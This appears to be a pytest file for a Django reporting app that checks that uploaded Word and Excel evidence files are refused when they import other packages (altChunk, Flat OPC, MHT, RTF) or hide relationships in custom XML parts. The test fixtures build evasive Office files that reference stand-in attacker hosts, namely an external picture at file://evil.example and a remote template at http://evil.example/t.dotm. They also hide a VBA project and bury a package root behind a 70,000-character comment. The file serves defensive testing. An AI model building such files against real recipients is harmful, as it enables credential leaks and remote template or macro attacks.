"""The 29th probe: a .docx whose altChunk brought in a Flat OPC package (a whole document written as one XML part,
its parts and their relationships inside it) passed with an external picture on a share, a template fetched from a
server and a VBA project, where the same picture in a real .rels part was refused. Evidence is plain documents: a
Word, Excel or PowerPoint file that imports another file's content is refused, and a relationship is read wherever it
is declared."""

import pytest

from reports.models import Evidence
from tests.reports.editing.test_evidence import (
    EXTERNAL,
    LINK_REFUSED,
    PLAIN,
    REL,
    SAVED,
    W,
    assert_refused,
    package,
    python_docx_bytes,
    upload,
    word,
)

IMPORTS = "nhúng nội dung của một tệp khác (altChunk): không nhận vì nội dung đó có thể mang liên kết hoặc mã ẩn"
PKG = 'xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"'
RELATIONSHIPS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


@pytest.fixture(autouse=True)
def media(tmp_path, settings):
    settings.MEDIA_ROOT = tmp_path


def hidden_relationships(kind: str, target: str, mode: str = EXTERNAL, root: str = "data") -> str:
    """An XML part of the document (plain XML by its content type) declaring a relationship of its own."""
    return (
        f"<{root}><Relationships {RELATIONSHIPS}>"
        f'<Relationship Id="rId5" Type="{REL}{kind}" Target="{target}"{mode}/></Relationships></{root}>'
    )


def flat_opc(main: str = "officedocument.wordprocessingml.document.main", prolog=True) -> str:
    """A Flat OPC package of one Word document part of the content type `main`."""
    return (
        ('<?xml version="1.0"?><?mso-application progid="Word.Document"?>' if prolog else "")
        + f'<pkg:package {PKG}><pkg:part pkg:name="/word/document.xml" pkg:contentType="application/vnd.{main}+xml">'
        f"<pkg:xmlData><w:document {W}><w:body><w:p/></w:body></w:document></pkg:xmlData></pkg:part></pkg:package>"
    )


@pytest.mark.parametrize(
    "name",
    [
        "probe29-altchunk-flatopc-external.docx",  # a picture on a share, a template from a server
        "probe29-altchunk-flatopc-macro.docx",  # …and a macro-enabled main part with a VBA project
        "probe29-altchunk-mht.docx",  # an MHT page of a picture on a share and a frame
        "probe29-altchunk-xmltype.docx",  # an HTML page declared as plain XML
    ],
)
def test_the_probes_altchunk_files_are_refused_and_nothing_is_kept(client, cast, report, tmp_path, name):
    assert_refused(client, cast, report, tmp_path, name, (SAVED / name).read_bytes(), IMPORTS)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        # what Word imports, without an altChunk: a Flat OPC package, an MHT page, an RTF text as a part of the file,
        # or a part whose content type is one of them
        ("flat-opc.docx", package({"word/document.xml": f"<w:document {W}/>", "word/goi.xml": flat_opc()}), IMPORTS),
        (
            "flat-opc-chu-thich.docx",  # the root far behind a comment and whitespace
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "word/goi.xml": "<!--" + " " * 70_000 + "-->\n" + flat_opc(prolog=False),
                }
            ),
            IMPORTS,
        ),
        (
            "mht.docx",
            package({"word/document.xml": f"<w:document {W}/>", "word/trang.xml": "From: a\r\nMIME-Version: 1.0\r\n"}),
            IMPORTS,
        ),
        ("rtf.docx", package({"word/document.xml": f"<w:document {W}/>", "word/vb.xml": "{\\rtf1\\ansi x}"}), IMPORTS),
        (
            "html-khai-bao.docx",
            package(
                {"word/document.xml": f"<w:document {W}/>", "word/a.htm": "<p>x</p>"},
                PLAIN.replace("</Types>", '<Default Extension="htm" ContentType="text/html"/></Types>'),
            ),
            IMPORTS,
        ),
        ("subdocument.docx", word(rels=[("subDocument", "con.docx", "")]), IMPORTS),
        (
            "bang-flat-opc.xlsx",
            package(
                {
                    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                    "xl/goi.xml": flat_opc(),
                }
            ),
            "nhúng nội dung của một tệp khác (altChunk): không nhận vì nội dung đó có thể mang liên kết hoặc mã ẩn. "
            "Hãy mở tệp, lưu lại thành tệp .xlsx thông thường",
        ),
        # relationships declared in a part other than a .rels: read as if they were in one
        (
            "anh-an.docx",
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "customXml/item1.xml": hidden_relationships("image", "file://evil.example/share/a.png"),
                }
            ),
            LINK_REFUSED,
        ),
        (
            "mau-an.docx",
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "customXml/item1.xml": hidden_relationships("attachedTemplate", "http://evil.example/t.dotm"),
                }
            ),
            "là tệp Office có liên kết tới nội dung bên ngoài (một mẫu tài liệu lấy từ nơi khác",
        ),
        (
            "vba-an.docx",
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "customXml/item1.xml": hidden_relationships("vbaProject", "vbaProject.bin", ""),
                }
            ),
            "là tệp Office có macro: không nhận",
        ),
        (
            "altchunk-an.docx",
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "customXml/item1.xml": hidden_relationships("aFChunk", "a.xml", ""),
                }
            ),
            IMPORTS,
        ),
        (
            "phan-macro-an.docx",  # a Flat OPC part, not at the root, of a macro-enabled main part
            package(
                {
                    "word/document.xml": f"<w:document {W}/>",
                    "customXml/item1.xml": f"<data>{flat_opc('ms-word.document.macroEnabled.main', False)}</data>",
                }
            ),
            "là tệp Office có macro: không nhận",
        ),
    ],
)
def test_a_file_that_imports_or_hides_a_package_as_xml_is_refused(
    client, cast, report, tmp_path, name, content, message
):
    assert_refused(client, cast, report, tmp_path, name, content, message)


def test_the_message_says_how_to_upload_it_again(client, cast, report):
    client.force_login(cast["canbo.ldtbxh"])
    name = "probe29-altchunk-flatopc-external.docx"
    html = upload(client, report, name, (SAVED / name).read_bytes()).content.decode()
    assert (
        f"Tệp “{name}” nhúng nội dung của một tệp khác (altChunk): không nhận vì nội dung đó có thể mang liên kết "
        "hoặc mã ẩn. Hãy mở tệp, lưu lại thành tệp .docx thông thường rồi tải lên lại."
    ) in html


def test_the_same_picture_in_a_real_relationships_part_is_still_refused(client, cast, report, tmp_path):
    name = "probe29-control-external-image.docx"
    assert_refused(client, cast, report, tmp_path, name, (SAVED / name).read_bytes(), LINK_REFUSED)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bao-cao.docx", (SAVED / "libreoffice.docx").read_bytes()),
        ("mau.docx", python_docx_bytes()),
        ("bang.xlsx", (SAVED / "libreoffice.xlsx").read_bytes()),
    ],
)
def test_plain_documents_are_still_accepted(client, cast, report, name, content):
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, name, content).status_code == 302
    assert Evidence.objects.get(entry__report=report).original_name == name
